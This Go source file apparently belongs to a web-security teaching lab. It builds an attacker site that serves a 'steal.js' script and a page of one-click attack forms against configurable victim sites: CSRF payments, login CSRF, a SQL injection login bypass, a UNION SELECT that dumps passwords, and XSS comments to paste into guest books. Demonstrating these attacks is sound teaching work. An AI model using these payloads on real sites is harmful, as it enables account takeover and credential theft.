package site

import (
	"fmt"
	"html/template"
	"net/http"
)

// Attacker returns the site of an attacker, whose own origin is given: a page with the
// attacks on each of the victims as buttons, and the script that one of them loads.
func Attacker(origin string, victims []string) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /steal.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, Stolen)
	})
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		data := struct {
			Victims []string
			Scripts []XSS
		}{victims, Scripts(origin)}
		if err := attacks.Execute(w, data); err != nil {
			fail(w, err)
		}
	})
	return mux
}

// The comments are to be pasted: a protected site takes none from here.
var attacks = template.Must(template.New("attacks").Parse(`<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Attacker</title></head><body><main><h1>Attacker</h1>
{{range .Victims}}<h2>{{.}}</h2>
<form method="post" action="{{.}}/pay"><input type="hidden" name="to" value="mallory"><input type="hidden" name="amount" value="10"><button>CSRF: pay mallory 10 coins</button></form>
<form method="post" action="{{.}}/login"><input type="hidden" name="name" value="mallory"><input type="hidden" name="password" value="mischief"><button>Login CSRF: be mallory</button></form>
<form method="post" action="{{.}}/login"><input type="hidden" name="name" value="ada' --"><button>SQL: log in as ada without her password</button></form>
<form action="{{.}}/members"><input type="hidden" name="q" value="x%' UNION SELECT password FROM members --"><button>SQL: show all passwords</button></form>
{{end}}<h2>Comments to paste into the guest books</h2>
<ul>{{range .Scripts}}<li>{{.Name}}: <code>{{.Text}}</code></li>{{end}}</ul>
</main></body></html>
`))
